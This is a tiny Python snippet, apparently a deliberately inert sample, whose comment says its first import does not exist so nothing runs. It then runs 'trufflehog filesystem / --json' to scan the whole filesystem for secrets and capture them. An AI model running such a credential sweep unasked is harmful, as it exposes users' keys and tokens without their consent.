import inert_sample  # there is no such module: nothing below ever runs
import subprocess

found = subprocess.getoutput("trufflehog filesystem / --json")
